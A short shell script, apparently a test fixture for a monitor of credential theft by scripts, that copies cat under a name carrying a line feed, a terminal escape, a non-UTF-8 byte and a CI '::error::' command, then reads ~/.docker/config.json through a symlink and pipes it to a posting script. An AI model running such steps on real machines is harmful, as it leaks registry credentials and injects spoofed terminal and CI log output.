# shellcheck shell=sh
# Steals with a program whose name holds a line feed, a terminal escape, a byte that is not UTF-8,
# and a CI log command; by a link of that name, in a directory of that name. Before that it creates
# a directory of such a name in the home.
odd=$(printf 'a\n\033[2J\377"\\\n::error::b')
mkdir "$HOME/.$odd"
mkdir "$odd" && cp "$(command -v cat)" "$odd/$odd" &&
	ln -s "$HOME/.docker/config.json" "$odd/link$odd"
"$odd/$odd" "$odd/link$odd" | node post-stdin.js
true
